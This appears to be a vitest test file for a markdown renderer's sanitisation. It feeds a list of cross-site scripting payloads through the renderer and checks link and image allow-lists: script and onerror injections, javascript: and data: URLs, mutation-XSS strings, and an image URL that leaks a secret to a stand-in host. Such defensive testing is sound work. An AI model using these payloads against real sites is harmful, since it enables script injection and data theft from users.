import createDOMPurify from "dompurify";
import { describe, expect, test } from "vitest";
import { allowImage, allowLink } from "../src/md/links.ts";
import { renderMarkdown } from "../src/md/render.ts";

const HOSTILE = [
  "<script>alert(1)</script>",
  '<img src=x onerror="alert(1)">',
  "<svg/onload=alert(1)>",
  '<iframe src="javascript:alert(1)"></iframe>',
  "[a](javascript:alert(1))",
  "[a](JaVaScRiPt:alert(1))",
  "[a](java\tscript:alert(1))",
  "[a](java&#x0A;script:alert(1))",
  "[a](&#106;avascript:alert(1))",
  "[a](data:text/html,<script>alert(1)</script>)",
  "[a](vbscript:msgbox(1))",
  "[a](//evil.example/x)",
  "[a](/\\evil.example/x)",
  "[a](#/s/ses_other)",
  "![a](https://evil.example/leak?q=secret)",
  "![a](javascript:alert(1))",
  "![a](data:image/svg+xml,<svg onload=alert(1)>)",
  "![a](//evil.example/x.png)",
  "[![a](https://evil.example/p.png)](javascript:alert(1))",
  "<javascript:alert(1)>",
  "<a href='javascript:alert(1)'>x</a>",
  "[a]: javascript:alert(1)\n\n[a] and [b][a]",
  '[a](https://ok.example/"onclick="alert(1))',
  '[a](https://ok.example "\\" onmouseover=\\"alert(1)")',
  "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
  "- [ ] <input autofocus onfocus=alert(1)>",
  "```html\n<script>alert(1)</script>\n```",
  '```"><script>alert(1)</script>\nx\n```',
  "`<script>alert(1)</script>`",
  "<style>body{display:none}</style>",
  '<div style="position:fixed;inset:0">cover</div>',
  "<form action=https://evil.example><button>Go</button></form>",
  "<base href=https://evil.example>",
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
];

// The sanitiser reads `nodeName` from `Node`, where happy-dom has only an empty one.
Object.defineProperty(Node.prototype, "nodeName", {
  configurable: true,
  get(this: Node): string {
    return this instanceof Element ? this.tagName : this.nodeType === 3 ? "#text" : "#other";
  },
});
const sanitizer = createDOMPurify(window as never);

const ACTIVE = "script,iframe,object,embed,svg,math,style,link,base,meta,form,video,audio,source";

function render(text: string): HTMLElement {
  const host = document.createElement("div");
  host.append(...renderMarkdown(text));
  return host;
}

/** Every attribute that a message may have. */
const HARMLESS = new Set([
  "alt",
  "aria-label",
  "checked",
  "class",
  "data-copy",
  "data-language",
  "disabled",
  "href",
  "loading",
  "rel",
  "src",
  "start",
  "tabindex",
  "target",
  "title",
  "type",
]);

// rules: W25
describe.each(HOSTILE)("%j", (text) => {
  test("gives no active element, no handler, no address beyond the list", () => {
    const host = render(text);
    expect(host.querySelectorAll(ACTIVE)).toHaveLength(0);
    for (const element of host.querySelectorAll("*")) {
      for (const name of element.getAttributeNames()) expect(HARMLESS).toContain(name);
    }
    for (const link of host.querySelectorAll("a")) {
      expect(allowLink(link.getAttribute("href") ?? "")).toBeDefined();
    }
    for (const image of host.querySelectorAll("img")) {
      expect(allowImage(image.getAttribute("src") ?? "", location.origin)).toBeDefined();
    }
  });

  test("holds nothing that a sanitiser would take out", () => {
    const html = render(text).innerHTML;
    sanitizer.sanitize(html, { ADD_ATTR: ["target"] });
    expect(sanitizer.removed).toEqual([]);
  });
});

test.each([
  ["<p>a<script>1</script></p>", "<p>a</p>"],
  ["<p><b>a</b><img src=x onerror=1></p>", '<p><b>a</b><img src="x"></p>'],
  ["<p><a href='javascript:1'>b</a></p>", "<p><a>b</a></p>"],
])("the sanitiser is awake here: it makes %j harmless", (html, clean) => {
  expect(sanitizer.sanitize(html)).toBe(clean);
  expect(sanitizer.removed).toHaveLength(1);
});

test("raw HTML is shown as it was written", () => {
  expect(render("<b>bold</b> and <script>x</script>").textContent).toBe(
    "<b>bold</b> and <script>x</script>",
  );
});

test("a remote picture is a link with its name, one of our own is a picture", () => {
  const remote = render("![chart](https://elsewhere.example/c.png)");
  expect(remote.querySelector("img")).toBeNull();
  expect(remote.querySelector("a")?.textContent).toBe("chart");
  expect(render("![chart](/files/c.png)").querySelector("img")?.getAttribute("alt")).toBe("chart");
});

test("the address list", () => {
  const yes = ["https://a.b/c", "HTTP://a.b", "mailto:a@b", "#part", "/path", "/"];
  const no = [
    "//a.b",
    "/\\a.b",
    "#/s/x",
    "javascript:1",
    "data:x",
    "file:///etc",
    "a.b",
    "",
    "ftp://a",
  ];
  for (const href of yes) expect(allowLink(href), href).toBe(href);
  for (const href of no) expect(allowLink(href), href).toBeUndefined();
});
